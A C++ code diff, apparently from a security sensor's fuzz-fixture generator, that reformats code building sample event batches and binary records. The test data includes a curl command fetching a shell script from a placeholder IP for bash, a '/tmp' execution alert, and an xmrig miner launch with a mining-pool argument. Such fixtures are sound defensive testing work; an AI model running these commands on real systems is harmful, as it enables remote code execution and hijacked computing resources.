@@ -32,7 +32,9 @@ void write(const fs::path& path, const void* data, size_t size) {
   std::printf("%s (%zu bytes)\n", path.c_str(), size);
 }
 
-void write(const fs::path& path, const std::string& bytes) { write(path, bytes.data(), bytes.size()); }
+void write(const fs::path& path, const std::string& bytes) {
+  write(path, bytes.data(), bytes.size());
+}
 void write(const fs::path& path, const std::vector<uint8_t>& bytes) {
   write(path, bytes.data(), bytes.size());
 }
@@ -52,8 +54,8 @@ protocol::Event event(protocol::EventKind kind) {
   switch (kind) {
     case protocol::EventKind::kProcessExec:
       e.body = protocol::ProcessExec{"/usr/bin/curl", {"curl", "-s", "http://198.51.100.7/x.sh"},
-                                     false, "curl -s http://198.51.100.7/x.sh", "/bin/bash",
-                                     "bash job.sh"};
+                                     false,           "curl -s http://198.51.100.7/x.sh",
+                                     "/bin/bash",     "bash job.sh"};
       break;
     case protocol::EventKind::kProcessExit:
       e.body = protocol::ProcessExit{0, 9, "/usr/bin/curl"};
@@ -77,18 +79,25 @@ protocol::Batch full_batch() {
                     protocol::EventKind::kNetworkConnect}) {
     b.events.push_back(event(kind));
   }
-  b.zone_energy.push_back({1'700'000'000'000'000'000ull, 1'700'000'010'000'000'000ull,
-                           "package-0", protocol::EnergySource::kRapl, false, 100.0, true});
+  b.zone_energy.push_back({1'700'000'000'000'000'000ull, 1'700'000'010'000'000'000ull, "package-0",
+                           protocol::EnergySource::kRapl, false, 100.0, true});
   b.zone_energy.push_back({1'700'000'000'000'000'000ull, 1'700'000'010'000'000'000ull, "core",
                            protocol::EnergySource::kRapl, false, 60.0, false});
   b.workload_energy.push_back({1'700'000'000'000'000'000ull, 1'700'000'010'000'000'000ull,
                                event(protocol::EventKind::kProcessExit).workload, 8.5, 90.0, 1.0,
                                false});
-  b.workload_energy.push_back({1'700'000'000'000'000'000ull, 1'700'000'010'000'000'000ull,
+  b.workload_energy.push_back({1'700'000'000'000'000'000ull,
+                               1'700'000'010'000'000'000ull,
                                {protocol::WorkloadKind::kUnattributed, "unattributed", "", ""},
-                               0, 30.0, 0.5, true});
-  b.alerts.push_back({"aacfba47-7e2a-4cb0-99eb-844dbad23c05", "Execution From /tmp", "medium",
-                      {"attack.execution"}, event(protocol::EventKind::kProcessExec)});
+                               0,
+                               30.0,
+                               0.5,
+                               true});
+  b.alerts.push_back({"aacfba47-7e2a-4cb0-99eb-844dbad23c05",
+                      "Execution From /tmp",
+                      "medium",
+                      {"attack.execution"},
+                      event(protocol::EventKind::kProcessExec)});
   b.status = {3, 1000, 0, "2025.01.15"};
   return b;
 }
@@ -126,12 +135,10 @@ int main(int argc, char** argv) {
           vigie::fuzz::exec_record("xmrig\0-o\0stratum+tcp://po"s, "/tmp/xmrig",
                                    SENSOR_EXEC_ARGV_TRUNCATED));
     write(dir / "exit.bin", vigie::fuzz::exit_record(9));
-    write(dir / "connect_v4.bin",
-          vigie::fuzz::connect_record(SENSOR_AF_INET, v4, sizeof v4, htons(3333),
-                                      SENSOR_TRANSPORT_TCP));
-    write(dir / "connect_v6.bin",
-          vigie::fuzz::connect_record(SENSOR_AF_INET6, v6, sizeof v6, htons(53),
-                                      SENSOR_TRANSPORT_UDP));
+    write(dir / "connect_v4.bin", vigie::fuzz::connect_record(SENSOR_AF_INET, v4, sizeof v4,
+                                                              htons(3333), SENSOR_TRANSPORT_TCP));
+    write(dir / "connect_v6.bin", vigie::fuzz::connect_record(SENSOR_AF_INET6, v6, sizeof v6,
+                                                              htons(53), SENSOR_TRANSPORT_UDP));
   }
   return 0;
 }
